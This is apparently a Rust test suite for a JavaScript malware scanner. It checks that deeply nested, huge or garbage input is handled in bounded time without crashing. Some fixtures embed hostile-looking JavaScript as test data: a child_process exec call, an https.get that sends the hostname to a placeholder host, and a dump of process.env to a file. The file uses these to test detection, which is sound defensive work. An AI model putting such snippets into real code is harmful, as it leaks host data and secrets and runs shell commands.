//! Hostile input for the JavaScript engine: garbage, a 50 MB single line, nesting ten thousand
//! deep, endless operator chains. Each must come back in bounded time — no panic, no stack
//! overflow — with a parse error where the file cannot be analysed safely. Runs on 2 MiB
//! threads, the stack a rayon worker has.

use std::time::{Duration, Instant};

use ringfence_inspect::js::{FileAnalysis, analyse_file};

/// Runs `analyse_file` on a thread with a rayon-sized stack and returns the result and time.
fn analyse_on_worker(path: &str, source: String, install_time: bool) -> (FileAnalysis, Duration) {
    let path = path.to_string();
    std::thread::Builder::new()
        .stack_size(2 << 20)
        .spawn(move || {
            let t = Instant::now();
            let a = analyse_file(&path, &source, install_time);
            (a, t.elapsed())
        })
        .expect("spawn worker")
        .join()
        .expect("analysis must not panic")
}

#[test]
fn ten_thousand_nested_brackets_are_refused_quickly() {
    for (open, close) in [("(", ")"), ("[", "]"), ("{a:", "}"), ("`${", "}`")] {
        let src = format!("x = {}1{};", open.repeat(10_000), close.repeat(10_000));
        let (a, took) = analyse_on_worker("deep.js", src, false);
        let err = a.parse_error.expect("deep nesting is refused");
        assert!(err.contains("nesting too deep"), "{err}");
        assert!(took < Duration::from_secs(5), "{took:?}");
        assert!(a.alerts.is_empty());
    }
}

#[test]
fn unbalanced_nesting_without_closers_is_refused() {
    let src = "(".repeat(1_000_000);
    let (a, _) = analyse_on_worker("open.js", src, false);
    assert!(a.parse_error.is_some());
}

#[test]
fn deep_but_legal_nesting_runs_on_the_big_stack() {
    // Deeper than the caller's stack allows in a debug build, shallower than the refusal limit.
    let src = format!(
        "var x = {}1{};\nrequire('child_process').exec(x);",
        "(".repeat(600),
        ")".repeat(600)
    );
    let (a, _) = analyse_on_worker("nested.js", src, false);
    assert!(a.parse_error.is_none(), "{:?}", a.parse_error);
    assert!(
        a.alerts.iter().any(|x| x.id.as_str() == "shell-access"),
        "{:?}",
        a.alerts
    );
}

#[test]
fn long_operator_chains_do_not_overflow() {
    for src in [
        format!("var s = 'a'{};", " + 'b'".repeat(50_000)),
        format!("var s = {}x;", "!".repeat(50_000)),
        format!("var s = a{};", ".b".repeat(50_000)),
        format!("var s = {}1;", "a ? 1 : ".repeat(20_000)),
        format!("if (a) {{}}{}", " else if (a) {}".repeat(20_000)),
    ] {
        let (a, took) = analyse_on_worker("chain.js", src, false);
        // Either analysed on the big stack or refused; never a crash.
        if let Some(e) = &a.parse_error {
            assert!(e.contains("nesting") || e.contains("chain"), "{e}");
        }
        assert!(took < Duration::from_secs(60), "{took:?}");
    }
}

#[test]
fn syntax_garbage_gives_a_parse_error_without_panicking() {
    let inputs = [
        "}}}}}}} ((((( ]]]] )))) {{{ `${ '\\".to_string(),
        "function (((( { return =>=> }".to_string(),
        String::from_utf8_lossy(
            &(0u32..20_000)
                .map(|i| (i.wrapping_mul(2_654_435_761) >> 24) as u8)
                .collect::<Vec<_>>(),
        )
        .into_owned(),
        "/* unterminated comment".to_string(),
        "'unterminated string".to_string(),
        "`unterminated ${ template".to_string(),
        "\u{feff}\u{0}\u{2028}require(".to_string(),
    ];
    for src in inputs {
        let (a, took) = analyse_on_worker("garbage.js", src.clone(), true);
        assert!(
            a.parse_error.is_some(),
            "expected a parse error for {src:?}"
        );
        assert!(took < Duration::from_secs(5));
    }
}

#[test]
fn a_fifty_megabyte_single_line_file_is_analysed_in_bounded_time() {
    let unit = "var a=function(b,c){return b+c},d=[1,2,3].map(function(e){return e*2});";
    let src = unit.repeat(50_000_000 / unit.len());
    assert!(src.len() >= 49_000_000 && !src.contains('\n'));
    let (a, took) = analyse_on_worker("bundle.js", src, false);
    assert!(a.parse_error.is_none(), "{:?}", a.parse_error);
    assert!(a.alerts.iter().any(|x| x.id.as_str() == "minified-code"));
    // Generous for unoptimised test builds; the release build takes well under a second.
    assert!(took < Duration::from_secs(240), "{took:?}");
}

#[test]
fn results_are_deterministic_and_sorted() {
    let src = "const cp = require('child_process');\nconst https = require('https');\nconst os = require('os');\n\
               https.get('https://a.example/' + os.hostname());\ncp.exec('id');\nfetch('https://b.example');\n\
               const e = JSON.stringify(process.env);\nrequire('fs').writeFileSync('x', e);";
    let a = analyse_file("index.js", src, true);
    let b = analyse_file("index.js", src, true);
    assert_eq!(a.alerts, b.alerts);
    assert_eq!(a.urls, b.urls);
    let ids: Vec<&str> = a.alerts.iter().map(|x| x.id.as_str()).collect();
    let mut sorted = a.alerts.iter().map(|x| x.id).collect::<Vec<_>>();
    sorted.sort();
    assert_eq!(
        a.alerts.iter().map(|x| x.id).collect::<Vec<_>>(),
        sorted,
        "{ids:?}"
    );
    for alert in &a.alerts {
        let mut ev = alert.evidence.clone();
        ev.sort();
        assert_eq!(ev, alert.evidence);
    }
}
